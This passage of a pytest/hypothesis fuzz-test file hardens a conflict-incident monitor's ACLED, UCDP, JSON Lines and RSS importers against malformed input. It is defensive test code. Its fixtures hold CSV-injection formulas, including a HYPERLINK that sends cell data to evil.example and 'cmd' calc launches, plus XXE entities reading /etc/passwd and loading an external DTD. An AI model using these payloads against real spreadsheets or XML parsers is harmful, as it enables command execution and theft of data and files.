"""Hostile input: every adapter and `monitor incident add` fed random and malformed input by
hypothesis.

Whatever comes in (wrong types, huge fields, bytes that are not UTF-8, NaN and infinite
coordinates, dates in year 9999, CSV injection, XML entity bombs, broken zips):

- nothing crashes: a bad record is a Rejection naming where it was and why, a bad source a
  SourceError, a bad command line an exit status with a message, never a traceback;
- every record is accounted for exactly once (an outcome or a Rejection naming its line);
- nothing partial is stored: every stored report re-validates and has its incident row, the
  ledger's hash chain verifies, and the reports stored are exactly the new outcomes;
- exported CSV never starts a cell with a formula character unless the cell is a number.

Decision: dates in years 1 and 9999 are refused (IncidentReport._placeable): they are
placeholders ("9999-12-31" for "unknown"), and a window at the calendar's ends cannot be
computed. Year 9998 is a date like any other: judged, and no instrument is in force then.

Every test is derandomized (reproducible in CI) and small enough that the file runs in well
under a minute on two cores; HOSTILE_SCALE=N multiplies the examples and draws fresh seeds.
Ledgers are built inside the tests (one per example).
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import hashlib
import io
import json
import math
import os
import re
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, currently_in_test_context, event, given, settings
from hypothesis import strategies as st

import monitor.config as config_module
from monitor.adapters.acled import AcledAdapter, read_csv
from monitor.adapters.gdelt import COLUMNS as GDELT_COLUMNS
from monitor.adapters.gdelt import GdeltAdapter
from monitor.adapters.jsonl import JsonlAdapter, read_file
from monitor.adapters.rss import RssAdapter
from monitor.adapters.ucdp import UcdpAdapter
from monitor.adapters.ucdp import to_report as ucdp_report
from monitor.cli import main
from monitor.config import Pack
from monitor.feeds import Batch, FeedSpec, HttpFetcher, SourceError
from monitor.ledger import Ledger
from monitor.models import IncidentReport
from monitor.output import FORMULA_LEAD, render, safe_csv_cell
from monitor.service import BatchResult, Monitor, Rejection, validate
from tests.servers import serve

FIXTURES = Path(__file__).parent / "fixtures"

# Every test: reproducible (derandomize), no example database, no deadline unless the test
# is about hangs (RSS sets 2 s per example). HOSTILE_SCALE=20 runs twenty times the examples
# with fresh random seeds: a longer hunt for new bugs, not for CI.
SCALE = int(os.environ.get("HOSTILE_SCALE", "1"))
HOSTILE = settings(derandomize=SCALE == 1, database=None, deadline=None,
                   suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                          HealthCheck.large_base_example])

# --- shared hostile values -------------------------------------------------------------------

KB100 = "barrel bombs " * 7_700  # ~100 kB: over every text limit
KB200 = "x" * 200_000  # over the csv module's default 128 KiB field limit
FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "-inf", "+nan", "-1_0", "=", "-", "@",
            "Kafr Nabl\r=cmd|' /C calc'!A0", "town\n=1+1", "a\r\n@SUM(1)"]
NOT_FINITE = ["nan", "NaN", "-nan", "inf", "-inf", "Infinity", "1e309", "-1e309", "1" * 5000]
NOT_NUMBERS = ["", "thirty-five", "35,614", "３５.６", "0x23", "35.6\x00"]
BAD_DATES = ["9999-12-31", "0001-01-01", "31 December 9999", "2016-02-30", "2016-13-01",
             "20160810", "99999-01-01", "2016-08-10T00:00:00", "", "yesterday"]
# written with surrogateescape: byte sequences that are never UTF-8 (0xFF, 0xC3 then "(",
# an encoded surrogate)
INVALID_UTF8 = ["\udcff", "caf\udcc3(", "\udcfe\udcff", "x\udced\udca0\udc80"]
CONTROL = ["\x00", "a\x00b", "\x1b[31mred\x1b[0m", "\u202eevil", "\ufeff", "line\nbreak",
           "cr\rhere", 'quote"d', ",", "\r\n", "\x7f\x85\u2028"]
HOSTILE_TEXT = [KB100, KB200, *FORMULAS, *NOT_FINITE, *NOT_NUMBERS, *BAD_DATES, *INVALID_UTF8,
                *CONTROL]
SHORT_HOSTILE_TEXT = [v for v in HOSTILE_TEXT if len(v) < 10_000]


def has_invalid_bytes(value: Any) -> bool:
    return isinstance(value, str) and any("\udc80" <= ch <= "\udcff" for ch in value)


hostile_cell = st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=20))


def label(text: str) -> None:
    """Count what examples did (shown by --hypothesis-show-statistics): a test that never
    stores anything, or never reaches a parser, would pass while proving little."""
    if currently_in_test_context():
        event(text)


class Clock:
    """A clock that advances one second per reading (the ledger's recorded_at)."""

    def __init__(self) -> None:
        self.now = dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc)

    def __call__(self) -> dt.datetime:
        self.now += dt.timedelta(seconds=1)
        return self.now


@pytest.fixture(autouse=True, scope="module")
def _the_pack(pack: Pack) -> None:
    """The session's pack, kept here so that hypothesis' reports do not print all of it."""
    THE_PACK.append(pack)


THE_PACK: list[Pack] = []


@contextlib.contextmanager
def fresh(pack: Pack) -> Iterator[tuple[Monitor, Ledger, Path]]:
    """A monitor on a new ledger file in a folder of its own (one per example)."""
    with tempfile.TemporaryDirectory() as tmp:
        clock = Clock()
        ledger = Ledger.open(Path(tmp) / "ledger.db", clock=clock)
        try:
            yield Monitor(pack, ledger, clock=clock), ledger, Path(tmp)
        finally:
            ledger.close()


def merge(total: BatchResult, result: BatchResult) -> None:
    total.outcomes += result.outcomes
    total.rejections += result.rejections


def submit_batches(monitor: Monitor, spec: FeedSpec, batches: Iterable[Batch]) -> BatchResult:
    """Record each batch with its cursor, as the daemon does."""
    total = BatchResult()
    for batch in batches:
        merge(total, monitor.submit(batch.items, feed=spec.name, cursor=batch.cursor,
                                    retractions=batch.retractions))
    return total


def assert_rejections_explained(rejections: Iterable[Rejection], where: str = "") -> None:
    for rej in rejections:
        assert isinstance(rej, Rejection)
        assert rej.reason.strip(), rej
        assert rej.where.startswith(where), rej


def assert_whole(ledger: Ledger, outcomes: Iterable[Any]) -> None:
    """Nothing partial: the reports stored are exactly the new outcomes, each re-validates
    and has its incident row, every finding is on a recorded incident, the chain verifies."""
    result = ledger.verify()
    assert result.ok, result.problem
    rows = ledger.query("SELECT report_key, incident_id, body FROM reports")
    keys = sorted(r["report_key"] for r in rows)
    assert keys == sorted(o.report_key for o in outcomes if not o.duplicate)
    assert len(set(keys)) == len(keys)
    for row in rows:
        report = IncidentReport.model_validate(json.loads(row["body"]))
        assert report.report_key == row["report_key"]
    incidents = ledger.query("SELECT report_key FROM incidents")
    assert sorted(r["report_key"] for r in incidents) == keys
    orphans = ledger.query("SELECT count(*) AS n FROM findings WHERE incident_id NOT IN "
                           "(SELECT incident_id FROM incidents)")
    assert orphans[0]["n"] == 0


def csv_bytes(rows: list[list[str]], bom: bool = False) -> bytes:
    """Rows written by the csv module; lone surrogates become the raw bytes they stand for."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return (("\ufeff" if bom else "") + buf.getvalue()).encode("utf-8", "surrogateescape")


def record_ends(data: bytes, encoding: str = "utf-8-sig") -> list[int]:
    """The line each CSV data record ends on, as the adapters number them."""
    reader = csv.reader(io.StringIO(data.decode(encoding, "surrogateescape"), newline=""))
    next(reader, None)
    return [reader.line_num for row in reader if row != []]


# === ACLED ===================================================================================

# The ACLED export columns and the Kafr Nabl row, as the CLI tests define them.
sys.path.insert(0, str(Path(__file__).parent))
from test_cli import ACLED_COLUMNS, KAFR_NABL  # noqa: E402

NOTES = ["Government helicopters dropped barrel bombs on the market",
         "Shelling on the outskirts of the town; no casualties reported",
         "Clashes between the army and rebels near the Castello road"]


def acled_poison(mutations: dict[str, str]) -> bool:
    """Whether a mutation makes an ACLED row certainly bad (it must then be rejected)."""
    if any(has_invalid_bytes(v) for v in mutations.values()):
        return True
    if any(mutations.get(c) in NOT_FINITE + NOT_NUMBERS for c in ("latitude", "longitude")):
        return True
    if mutations.get("event_date") in BAD_DATES:
        return True
    if len(mutations.get("notes", "")) > 20_000:
        return True
    return "event_id_cnty" in mutations and not mutations["event_id_cnty"].strip()


@st.composite
def acled_files(draw: Any) -> tuple[bytes, list[str]]:
    """An ACLED export of valid 2016 rows mixed with malformed ones, and each row's kind:
    'pristine' (must be accepted), 'poison' (must be rejected) or 'unknown'."""
    rows, kinds = [], []
    for i in range(draw(st.integers(0, 7))):
        day = draw(st.dates(dt.date(2016, 1, 1), dt.date(2016, 12, 31)))
        row = {**KAFR_NABL, "event_id_cnty": f"SYR{9000 + i}",
               "timestamp": str(1471000000 + i),
               "event_date": day.strftime(draw(st.sampled_from(["%Y-%m-%d", "%d %B %Y"]))),
               "time_precision": draw(st.sampled_from("123")),
               "geo_precision": draw(st.sampled_from("123")),
               "fatalities": str(draw(st.integers(0, 40))), "notes": draw(st.sampled_from(NOTES))}
        mutations = (draw(st.dictionaries(st.sampled_from(ACLED_COLUMNS), hostile_cell,
                                          max_size=3)) if draw(st.booleans()) else {})
        row.update(mutations)
        cells = [row.get(c, "") for c in ACLED_COLUMNS]
        shape = draw(st.sampled_from(["same"] * 4 + ["extra", "fewer"]))
        if shape == "extra":
            cells.append(draw(hostile_cell))
        elif shape == "fewer":
            cells = cells[:-draw(st.integers(1, 5))]
        rows.append(cells)
        kinds.append("poison" if shape != "same" or acled_poison(mutations)
                     else "pristine" if not mutations else "unknown")
    return csv_bytes([ACLED_COLUMNS, *rows], bom=draw(st.booleans())), kinds


@settings(HOSTILE, max_examples=25 * SCALE)
@given(acled_files())
def test_acled_import_and_feed_account_for_every_row(file: tuple[bytes, list[str]]):
    pack = THE_PACK[0]
    data, kinds = file
    ends = record_ends(data)
    assert len(ends) == len(kinds)
    with fresh(pack) as (monitor, ledger, tmp):
        path = tmp / "events.csv"
        path.write_bytes(data)

        # `monitor import --format acled`: read_csv, validate, submit
        items = list(read_csv(path, feed="acled"))
        wheres = [i.where if isinstance(i, Rejection) else i[0] for i in items]
        assert wheres == [f"events.csv line {n}" for n in ends]  # each row once, in order
        verdicts = [i if isinstance(i, Rejection) else validate(i[1], i[0]) for i in items]
        for verdict, kind in zip(verdicts, kinds):
            if kind == "poison":
                assert isinstance(verdict, Rejection), verdict
            elif kind == "pristine":
                assert isinstance(verdict, IncidentReport), verdict
        total = monitor.submit(verdicts)
        assert len(total.outcomes) + len(total.rejections) == len(kinds)
        assert_rejections_explained(total.rejections, "events.csv line ")

        # the ACLED feed over the same file, through the fetcher, batch by batch
        spec = FeedSpec(name="acled-syria", adapter="acled", source="events.csv",
                        reliability="B", options={"batch_size": 3})
        adapter, fetch = AcledAdapter(spec, tmp), HttpFetcher(spec, tmp)
        batches = list(adapter.batches({}, fetch))
        kind_at = dict(zip((f"events.csv line {n}" for n in ends), kinds))
        fed = [i.where if isinstance(i, Rejection) else i[0] for b in batches for i in b.items]
        # rows stamped 0 are not newer than an empty cursor: skipped, not lost
        skipped = {w for w, row in zip(kind_at, rows_of(data))
                   if len(row) == len(ACLED_COLUMNS)
                   and re.fullmatch(r"[0-9]{1,12}", row[-1].strip()) and int(row[-1]) == 0}
        assert sorted(fed) == sorted(set(kind_at) - skipped)
        result = submit_batches(monitor, spec, batches)
        assert len(result.outcomes) + len(result.rejections) == len(fed)
        for outcome_or_rejection in result.rejections:
            assert kind_at[outcome_or_rejection.where] != "pristine", outcome_or_rejection
        assert_rejections_explained(result.rejections, "events.csv line ")
        poisoned = {w for w, k in kind_at.items() if k == "poison"} - skipped
        assert poisoned <= {r.where for r in result.rejections}
        merge(total, result)
        assert_whole(ledger, total.outcomes)
        label(f"ACLED rows stored: {min(len(total.outcomes), 3)}+, rejected: "
              f"{min(len(total.rejections), 3)}+")
        # the next poll of the unchanged file reads nothing
        assert list(adapter.batches(batches[-1].cursor, fetch)) == []


def rows_of(data: bytes) -> list[list[str]]:
    reader = csv.reader(io.StringIO(data.decode("utf-8-sig", "surrogateescape"), newline=""))
    next(reader, None)
    return [row for row in reader if row != []]


def test_acled_file_not_utf8_in_its_header_or_first_bytes_is_rows_not_a_crash(pack, tmp_path):
    """A byte that is not UTF-8 in the header, or in the first 8 KiB that hold it: only the
    rows holding one are rejected, nothing raises out of read_csv."""
    header = ",".join(ACLED_COLUMNS).replace("tags", "ta\udcffgs")
    rows = [[KAFR_NABL.get(c, "") for c in ACLED_COLUMNS] for _ in range(3)]
    for i, row in enumerate(rows):
        row[0] = f"SYR{i}"
    rows[1][ACLED_COLUMNS.index("notes")] = "caf\udcc3( notes"
    path = tmp_path / "latin.csv"
    path.write_bytes(csv_bytes([header.split(","), *rows]))
    items = list(read_csv(path))
    assert [i.where if isinstance(i, Rejection) else i[0] for i in items] == [
        "latin.csv line 2", "latin.csv line 3", "latin.csv line 4"]
    assert isinstance(items[1], Rejection) and "UTF-8" in items[1].reason
    assert not isinstance(items[0], Rejection) and not isinstance(items[2], Rejection)


@pytest.mark.parametrize("day,precision", [("9999-12-31", "2"), ("0001-01-01", "2"),
                                           ("9999-12-31", "1"), ("9999-12-15", "3")])
def test_acled_dates_at_the_calendar_ends_are_rejected_rows(pack, tmp_path, day, precision):
    """A week around 9999-12-31 would overflow datetime: the row is rejected, the import goes on."""
    path = tmp_path / "ends.csv"
    good = [KAFR_NABL.get(c, "") for c in ACLED_COLUMNS]
    bad = [{**KAFR_NABL, "event_id_cnty": "SYR2", "event_date": day,
            "time_precision": precision}.get(c, "") for c in ACLED_COLUMNS]
    path.write_bytes(csv_bytes([ACLED_COLUMNS, bad, good]))
    with fresh(pack) as (monitor, ledger, _):
        items = [i if isinstance(i, Rejection) else validate(i[1], i[0])
                 for i in read_csv(path)]
        result = monitor.submit(items)
        assert [r.where for r in result.rejections] == ["ends.csv line 2"]
        assert re.search(r"calendar|years 2.9998", result.rejections[0].reason)
        assert [o.report_key for o in result.outcomes] == ["acled:SYR9001:1471000000"]
        assert_whole(ledger, result.outcomes)


def test_a_field_over_128_kib_is_one_rejected_row_not_the_end_of_the_file(pack, tmp_path):
    """csv's default field limit ended the ACLED import at such a row (the rows after it were
    neither imported nor rejected) and failed a UCDP file whole."""
    rows = [[{**KAFR_NABL, "event_id_cnty": f"SYR{n}", "notes": note}.get(c, "")
             for c in ACLED_COLUMNS] for n, note in enumerate(["short", KB200, "short"])]
    (tmp_path / "long.csv").write_bytes(csv_bytes([ACLED_COLUMNS, *rows]))
    verdicts = [i if isinstance(i, Rejection) else validate(i[1], i[0])
                for i in read_csv(tmp_path / "long.csv")]
    assert [type(v).__name__ for v in verdicts] == ["IncidentReport", "Rejection",
                                                    "IncidentReport"]
    assert str(verdicts[1]).startswith("long.csv line 3: notes: String should have at most")
    # this process imported gdelt.py, which raises the limit too: the ACLED reader alone must
    probe = ("import sys; from monitor.adapters.acled import read_csv; "
             "print(len(list(read_csv(__import__('pathlib').Path(sys.argv[1])))))")
    alone = subprocess.run([sys.executable, "-c", probe, str(tmp_path / "long.csv")],
                           capture_output=True, text=True, check=True,
                           cwd=Path(__file__).parent.parent)
    assert alone.stdout.strip() == "3"


# === UCDP ====================================================================================

GED_COLUMNS = ("id,year,active_year,type_of_violence,conflict_new_id,conflict_name,dyad_new_id,"
               "dyad_name,side_a_new_id,side_a,side_b_new_id,gwnob,side_b,number_of_sources,"
               "source_article,source_office,source_date,source_headline,source_original,"
               "where_prec,where_coordinates,adm_1,adm_2,latitude,longitude,geom_wkt,"
               "priogrid_gid,country,country_id,region,event_clarity,date_prec,date_start,"
               "date_end,deaths_a,deaths_b,deaths_civilians,deaths_unknown,low,best,high"
               ).split(",")
GED_ROW = dict(zip(GED_COLUMNS, next(csv.reader([
    '214804,2016,1,1,299,Syria: Government,11973,Government of Syria - Syrian insurgents,118,'
    'Government of Syria,4456,,Syrian insurgents,1,"""SOHR,2016-01-01,Bombardment targets Idlib'
    ' and Hama""",SOHR,2016-01-01,Bombardment targets Idlib and Hama,SOHR,2,Ein Laroz town,'
    'Idlib Governorate,Ariha district,35.688342,36.449962,POINT (36.449962 35.688342),181153,'
    'Syria,652,Middle East,1,1,2016-01-01,2016-01-01,0,0,2,0,2,2,2']))))
GED_HEADLINES = ["Bombardment targets Idlib and Hama", "Regime helicopters drop barrel bombs",
                 "Russian warplanes strike Kafr Nabl market", "Clashes in Aleppo"]
# any JSON value the GED API could send in a field
json_scalars = st.one_of(st.none(), st.booleans(), st.integers(-2**70, 2**70),
                         st.floats(allow_nan=True, allow_infinity=True), st.text(max_size=12))
json_values = st.recursive(json_scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)),
    max_leaves=8)


def ucdp_poison(mutations: dict[str, Any]) -> bool:
    def text(key: str) -> Any:
        return mutations.get(key, GED_ROW.get(key))

    # "３５.６" is no poison here: float() reads full-width digits
    bad = NOT_FINITE + [n for n in NOT_NUMBERS if n != "３５.６"]
    for c in ("latitude", "longitude"):
        if text(c) in bad or isinstance(text(c), float) and not math.isfinite(text(c)):
            return True
    if text("date_start") in ["9999-12-31", "0001-01-01", "2016-02-30", "20160101", "", None]:
        return True
    if text("type_of_violence") in [0, 4, "4", "nan", "", None, 1.5, "one"]:
        return True
    return text("id") in ["", None, "  "]


@st.composite
def ged_rows(draw: Any, text_only: bool = False) -> tuple[dict[str, Any], str]:
    row: dict[str, Any] = {**GED_ROW, "source_headline": draw(st.sampled_from(GED_HEADLINES)),
                           "type_of_violence": draw(st.sampled_from("123")),
                           "date_prec": draw(st.sampled_from("12345"))}
    values = hostile_cell if text_only else st.one_of(
        hostile_cell, json_values, st.sampled_from([0, 4, 1.5, None, float("nan"),
                                                    float("inf"), "one", "  ", "4"]))
    mutations = draw(st.dictionaries(st.sampled_from(GED_COLUMNS), values, max_size=3)
                     ) if draw(st.booleans()) else {}
    row.update(mutations)
    return row, "poison" if ucdp_poison(mutations) else "pristine" if not mutations else "unknown"


@settings(HOSTILE, max_examples=40 * SCALE)
@given(st.lists(ged_rows(), max_size=6))
def test_ucdp_records_of_any_shape_become_reports_or_reasons(rows):
    pack = THE_PACK[0]
    with fresh(pack) as (monitor, ledger, _):
        items: list[Any] = []
        for n, (row, kind) in enumerate(rows, start=1):
            where = f"GED API item {n}"
            try:
                raw = ucdp_report({**row, "id": f"{row['id']}-{n}"} if row.get("id") == GED_ROW[
                    "id"] else row, "ucdp", "B", version="24.1")
            except ValueError as exc:
                items.append(Rejection(where, str(exc)))
            else:
                items.append(validate(raw, where))
            if kind == "poison":
                assert isinstance(items[-1], Rejection), (row, items[-1])
            elif kind == "pristine":
                assert isinstance(items[-1], IncidentReport), items[-1]
        result = monitor.submit(items)
        label(f"UCDP records stored: {min(len(result.outcomes), 2)}+, rejected: "
              f"{min(len(result.rejections), 2)}+")
        assert len(result.outcomes) + len(result.rejections) == len(rows)
        assert_rejections_explained(result.rejections, "GED API item ")
        assert_whole(ledger, result.outcomes)


@settings(HOSTILE, max_examples=15 * SCALE)
@given(st.lists(st.tuples(ged_rows(text_only=True), st.sampled_from(["same"] * 4 + ["extra"])),
                max_size=6), st.booleans())
def test_ucdp_csv_feed_accounts_for_every_row(rows, bom):
    pack = THE_PACK[0]
    cells, kinds = [], []
    for n, ((row, kind), shape) in enumerate(rows, start=1):
        line = [str(row.get(c, "")) for c in GED_COLUMNS]
        if line[0] == GED_ROW["id"]:
            line[0] = f"{n}"  # distinct ids, unless the row's id is itself hostile
        if shape == "extra":
            line.append("surplus")
        cells.append(line)
        # the feed rejects a row with a byte that is not UTF-8 in any column, used or not
        kinds.append("poison" if shape == "extra" or any(map(has_invalid_bytes, line)) else kind)
    data = csv_bytes([GED_COLUMNS, *cells], bom=bom)
    ends = record_ends(data)
    with fresh(pack) as (monitor, ledger, tmp):
        (tmp / "ged.csv").write_bytes(data)
        spec = FeedSpec(name="ucdp-ged", adapter="ucdp", source="ged.csv", reliability="B",
                        options={"batch_size": 4})
        adapter, fetch = UcdpAdapter(spec, tmp), HttpFetcher(spec, tmp)
        batches = list(adapter.batches({}, fetch))
        items = [i for b in batches for i in b.items]
        wheres = [i.where if isinstance(i, Rejection) else i[0] for i in items]
        assert wheres == [f"ged.csv line {n}" for n in ends]
        kind_at = dict(zip(wheres, kinds))
        result = submit_batches(monitor, spec, batches)
        label(f"UCDP rows stored: {min(len(result.outcomes), 2)}+, rejected: "
              f"{min(len(result.rejections), 2)}+")
        assert len(result.outcomes) + len(result.rejections) == len(kinds)
        assert_rejections_explained(result.rejections, "ged.csv line ")
        rejected = {r.where for r in result.rejections}
        assert {w for w, k in kind_at.items() if k == "poison"} <= rejected
        assert not {w for w, k in kind_at.items() if k == "pristine"} & rejected
        assert_whole(ledger, result.outcomes)
        again = list(adapter.batches(batches[-1].cursor, fetch)) if batches else []
        assert [i for b in again for i in b.items] == []


# === JSON Lines ==============================================================================

JSONL_BASE = {"occurred": "2016-08-10", "attacker": "Syrian air force", "target": "civilians",
              "event_type": "air_strike", "notes": "barrel bombs on the market",
              "location": {"lat": 35.614, "lon": 36.562, "place": "Kafr Nabl"}}
NAN = float("nan")
# each of these makes a record certainly invalid; NaN and Infinity go out as json's raw tokens
JSONL_POISON = [
    ("occurred", "9999-12-31"), ("occurred", "0001-01-01"), ("occurred", "9999-12-31T23:59:59Z"),
    ("occurred", "2016-08-10T10:00:00"), ("occurred", "2016-02-30"), ("occurred", None),
    ("occurred", [2016, 8, 10]), ("occurred", {"year": 2016}),
    ("location", {"lat": NAN, "lon": 36.562}), ("location", {"lat": 35.6, "lon": float("inf")}),
    ("location", {"lat": float("-inf"), "lon": NAN}), ("location", {"lat": "nan", "lon": 36.5}),
    ("location", {"lat": "1e309", "lon": 36.5}), ("location", {"lat": 95, "lon": 36.5}),
    ("location", {"lat": 35.6, "lon": 36.5, "precision": 99}), ("location", "Kafr Nabl"),
    ("notes", KB100), ("notes", 42), ("source_id", ""), ("source_id", "   "), ("source_id", None),
    ("source_id", "x" * 501), ("attacker", ["x"] * 21), ("attacker", [None]),
    ("casualties_min", -1), ("casualties_max", 10**7), ("event_type", "nuke"),
    ("platform", "=cmd|' /C calc'!A0"), ("unknown_field", 1), ("reliability", "Z"),
    ("sources", ["x" * 2001]), ("revision", "r" * 101),
]
ONE_MB = b'{"source_id": "big", "occurred": "2016-08-10", "notes": "' + b"x" * 1_000_000 + b'"}'
RAW_POISON = [
    b"\xff\xfe{}", b'{"source_id": "caf\xc3(", "occurred": "2016-08-10"}', b"[" * 5000,
    b'{"a":' * 3000, b'{"n": ' + b"9" * 5000 + b"}", b"NaN", b"Infinity", b"[]", b'"a string"',
    b"{", b"null", b"\x00", b'{"source_id": "\\ud800", "occurred": "2016-08-10"}',
    b'{"source_id": "x", "occurred": "2016-08-10", "location": {"lat": NaN, "lon": 36.5}}',
    ONE_MB,
]


@st.composite
def jsonl_lines(draw: Any) -> tuple[bytes, str]:
    """One line (without its newline) and its kind: pristine, poison, blank or unknown."""
    choice = draw(st.sampled_from(["pristine", "poison", "poison", "raw", "json", "binary"]))
    if choice == "pristine":
        return json.dumps({**JSONL_BASE, "source_id": "?"}).encode(), "pristine"
    if choice == "poison":
        key, value = draw(st.sampled_from(JSONL_POISON))
        return json.dumps({**JSONL_BASE, "source_id": "?", key: value}).encode(), "poison"
    if choice == "raw":
        return draw(st.sampled_from(RAW_POISON)), "poison"
    if choice == "json":  # any JSON value at all, objects often shaped like a report
        value = draw(st.one_of(json_values, st.dictionaries(
            st.sampled_from([*JSONL_BASE, "source_id", "feed", "revision", "reliability",
                             "casualties_min", "attacker_side", "occurred_end"]),
            json_values, max_size=5)))
        line = json.dumps(value, ensure_ascii=draw(st.booleans())).encode("utf-8", "replace")
        return line, "unknown"
    line = draw(st.binary(max_size=60)).replace(b"\n", b"")
    return line, "blank" if not line.strip() else "unknown"


def numbered(lines: list[tuple[bytes, str]]) -> tuple[bytes, list[tuple[int, str]]]:
    """The file (pristine records get distinct ids) and (line number, kind) per record."""
    out, records = [], []
    for n, (line, kind) in enumerate(lines, start=1):
        if kind in ("pristine", "poison") and line.startswith(b"{") and b'"source_id": "?"' in line:
            line = line.replace(b'"source_id": "?"', f'"source_id": "p-{n}"'.encode(), 1)
        out.append(line)
        if kind != "blank":
            records.append((n, kind))
    return b"".join(line + b"\n" for line in out), records


@settings(HOSTILE, max_examples=25 * SCALE)
@given(st.lists(jsonl_lines(), max_size=8))
def test_jsonl_import_and_feed_account_for_every_line(lines):
    pack = THE_PACK[0]
    data, records = numbered(lines)
    with fresh(pack) as (monitor, ledger, tmp):
        path = tmp / "reports.jsonl"
        path.write_bytes(data)
        total = BatchResult()
        for feed_run in ("import", "feed"):
            if feed_run == "import":  # `monitor import --format jsonl`
                items = list(read_file(path, feed="partner"))
            else:
                spec = FeedSpec(name="partner-drop", adapter="jsonl", source="reports.jsonl",
                                reliability="C", options={"batch_size": 3})
                batches = list(JsonlAdapter(spec, tmp).batches({}, HttpFetcher(spec, tmp)))
                items = [i for b in batches for i in b.items]
            wheres = [i.where if isinstance(i, Rejection) else i[0] for i in items]
            assert wheres == [f"reports.jsonl line {n}" for n, _ in records]
            verdicts = [i if isinstance(i, Rejection) else validate(i[1], i[0]) for i in items]
            for verdict, (n, kind) in zip(verdicts, records):
                if kind == "poison":
                    assert isinstance(verdict, Rejection), (n, verdict)
                elif kind == "pristine":
                    assert isinstance(verdict, IncidentReport), (n, verdict)
            if feed_run == "import":
                result = monitor.submit(verdicts)
            else:
                result = submit_batches(monitor, spec, batches)
            assert len(result.outcomes) + len(result.rejections) == len(records)
            assert_rejections_explained(result.rejections, "reports.jsonl line ")
            merge(total, result)
        assert_whole(ledger, total.outcomes)
        label(f"JSONL lines stored: {min(len(total.outcomes), 3)}+, rejected: "
              f"{min(len(total.rejections), 3)}+")


def test_json_that_python_cannot_hold_is_a_rejected_line_not_a_crash(tmp_path):
    """RecursionError (nesting) and ValueError (a 5000-digit integer) escaped read_file and
    the JSON Lines feed."""
    path = tmp_path / "odd.jsonl"
    path.write_bytes(b"[" * 100_000 + b"\n" + b'{"n": ' + b"9" * 5000 + b"}\n{}\n")
    items = list(read_file(path))
    assert [str(i) if isinstance(i, Rejection) else i[0] for i in items] == [
        "odd.jsonl line 1: not valid JSON: nested too deeply",
        "odd.jsonl line 2: not valid JSON: a number too long to read", "odd.jsonl line 3"]


def test_nan_and_infinite_coordinates_are_rejected_naming_the_line_and_field(pack, tmp_path):
    path = tmp_path / "nan.jsonl"
    path.write_bytes(b'{"source_id": "a", "occurred": "2016-08-10", '
                     b'"location": {"lat": NaN, "lon": 36.5}}\n'
                     b'{"source_id": "b", "occurred": "2016-08-10", '
                     b'"location": {"lat": 35.6, "lon": -Infinity}}\n')
    verdicts = [validate(rec, where) for where, rec in read_file(path)]
    assert [str(v) for v in verdicts] == [
        "nan.jsonl line 1: location.lat: Input should be a finite number",
        "nan.jsonl line 2: location.lon: Input should be a finite number"]


def test_year_9999_is_refused_and_year_9998_is_judged_with_no_instrument_in_force(pack):
    with fresh(pack) as (monitor, ledger, _):
        base = {**JSONL_BASE, "feed": "partner"}
        result = monitor.submit([
            ("line 1", {**base, "source_id": "a", "occurred": "9999-12-31"}),
            ("line 2", {**base, "source_id": "b", "occurred": "2016-08-10",
                        "occurred_end": "9999-12-31"}),
            ("line 3", {**base, "source_id": "c", "occurred": "0001-01-01T00:00:00+05:00"}),
            ("line 4", {**base, "source_id": "d", "occurred": "9998-12-31"}),
            ("line 5", {**base, "source_id": "e", "occurred": "9998-12-31T23:59:59-12:00"}),
            ("line 6", {**base, "source_id": "f", "occurred": "0002-01-01"}),
        ])
        assert [r.where for r in result.rejections] == ["line 1", "line 2", "line 3"]
        assert all("placeholder" in r.reason for r in result.rejections)
        assert [o.findings for o in result.outcomes] == [[], [], []]
        assert_whole(ledger, result.outcomes)


# === RSS =====================================================================================

RSS_DATES = ["Wed, 10 Aug 2016 10:00:00 GMT", "Wed, 28 Sep 2016 07:45:00 +0300",
             "Fri, 31 Dec 9999 23:59:59 GMT", "Mon, 01 Jan 0001 00:00:00 +1400", "not a date",
             "", "2016-08-10T10:00:00Z", "Tue, 31 Feb 2016 10:00:00 GMT"]
RSS_POINTS = ["36.2 37.15", "nan inf", "1e309 0", "95 200", "a b", "36.2", "-inf -inf", ""]
ENTITY_DOCTYPES = [
    '<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">]>',
    '<!DOCTYPE rss [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>',
    '<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://127.0.0.1:9/evil.dtd"> %ext;]>',
    '<!DOCTYPE rss [\n<!ENTITY big "' + "a" * 5000 + '">\n]>',
    '<!DOCTYPE rss [<!-- a comment --><!ENTITY\tx\t"y">]>',
    '<!DOCTYPE rss [<!ENTITY img SYSTEM "x.png" NDATA png>]>',
]
PLAIN_DOCTYPES = ["", '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
                      '"http://my.netscape.com/publish/formats/rss-0.91.dtd">']
# how the document's bytes are written: the XML declaration names the encoding
RSS_ENCODINGS = [("utf-8", "utf-8"), ("utf-16", "utf-16"), ("utf-32", "utf-32-le"),
                 ("cp037", "cp037"), ("utf-7", "utf-7"), ("iso-8859-1", "latin-1")]


def xml_text(value: str) -> str:
    return (value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))


@st.composite
def rss_documents(draw: Any) -> tuple[bytes, bool]:
    """An RSS document (and whether it declares entities) with random items."""
    items = []
    for n in range(draw(st.integers(0, 4))):
        title = draw(st.one_of(st.sampled_from(SHORT_HOSTILE_TEXT), st.text(max_size=30)))
        parts = [f"<title>{xml_text(title)}</title>"]
        if draw(st.integers(0, 3)):
            parts.append(f"<guid>{xml_text(draw(st.text(max_size=20)))}-{n}</guid>")
